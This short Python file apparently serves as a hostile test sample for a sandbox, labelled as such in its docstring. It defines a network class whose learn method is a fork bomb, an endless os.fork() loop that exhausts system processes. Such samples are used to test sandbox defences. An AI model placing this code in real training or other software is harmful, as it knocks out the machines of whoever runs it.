"""Hostile: forks without end."""

import os

from sandbox_corpus_base import TinyNet, supported_hyperparameters  # noqa: F401


class Net(TinyNet):
    def learn(self, train_data):
        while True:
            os.fork()
